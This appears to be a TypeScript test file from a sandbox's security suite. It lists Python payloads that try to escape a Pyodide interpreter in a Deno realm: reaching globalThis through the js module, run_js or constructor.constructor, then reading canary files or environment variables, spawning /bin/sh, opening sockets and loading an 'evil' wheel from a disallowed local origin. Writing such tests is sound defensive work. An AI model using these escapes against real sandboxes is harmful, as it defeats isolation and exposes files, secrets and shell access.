/**
 * Ways out of the Python interpreter. It runs in the realm of every other work function, so what it
 * can reach is what that realm can: Python is no layer, and is not counted as one.
 */
import { type Attack, pythonAttack } from '../attack.ts'

const imported = 'realm imports permissions bubblewrap'
const environment = 'realm permissions environment'
const process = 'realm permissions bubblewrap seccomp'
const net = 'realm permissions network seccomp'

/**
 * `trick` leaves the global object it found in `g`. Only the realm is looked at: that the layers around
 * it hold by themselves is seen in other cases, and an interpreter takes its time to start.
 */
function by(name: string, trick: string): Attack {
  const code = `${trick}\nreturn g.Deno.readTextFileSync(canary['file'])`
  return pythonAttack(name, 'realm', code, { assumed: ['permissions', 'bubblewrap'] })
}

export const pythonAttacks: readonly Attack[] = [
  by('the module js', 'import js\ng = js'),
  by('the module js by another name', "exec(\"g = __import__('j' + 's')\", globals())\ng = globals()['g']"), // prettier-ignore
  by('run_js', "from pyodide.code import run_js\ng = run_js('globalThis')"),
  by('constructor of a JsProxy', "import js\ng = js.Object.constructor('return globalThis')()"),
  by('constructor of the input', "from pyodide.ffi import to_js\ng = to_js(canary).constructor.constructor('return globalThis')()"), // prettier-ignore
  by('constructor of the module dcp', "g = dcp.progress.constructor('return globalThis')()"),
  by('constructor of an exception of JavaScript', "import js\nfrom pyodide.ffi import JsException\ntry:\n  js.eval('null.x')\nexcept JsException as error:\n  g = error.js_error.constructor.constructor('return globalThis')()"), // prettier-ignore
  by('inside of Pyodide', 'import pyodide_js\ng = pyodide_js._api.config.jsglobals'),
  by('module of Emscripten', "import pyodide_js\ng = pyodide_js._module.constructor.constructor('return globalThis')()"), // prettier-ignore
  pythonAttack(
    'import of node:fs',
    imported,
    "from pyodide.code import run_js\nfs = await run_js('import(\"node:fs\")')\nreturn fs.readFileSync(canary['file'], 'utf8')",
  ),
  pythonAttack(
    'environment by Deno',
    environment,
    "import js\nreturn js.Deno.env.get(canary['variable'])",
  ),
  pythonAttack(
    'start a shell',
    process,
    "import js\nfrom pyodide.ffi import to_js\njs.Deno.Command.new('/bin/sh', to_js({'args': ['-c', ': > ' + canary['folder'] + '/a']}, dict_converter=js.Object.fromEntries)).outputSync()",
  ),
  pythonAttack(
    'connect to a server',
    net,
    "import js\nfrom pyodide.ffi import to_js\n(await js.Deno.connect(to_js({'hostname': '127.0.0.1', 'port': canary['port']}, dict_converter=js.Object.fromEntries))).close()",
  ),
  pythonAttack(
    'pyfetch from an origin that is not allowed',
    'broker',
    'from pyodide.http import pyfetch\nreturn await (await pyfetch(f"http://127.0.0.1:{canary[\'port\']}/")).string()',
  ),
  pythonAttack(
    'load a package from an origin that is not allowed',
    'broker',
    'import pyodide_js\nawait pyodide_js.loadPackage(f"http://127.0.0.1:{canary[\'port\']}/evil-1.0-py3-none-any.whl")',
  ),
  pythonAttack('a loop', 'deadline', 'while True:\n  pass', { expected: 'ENOPROGRESS' }),
]
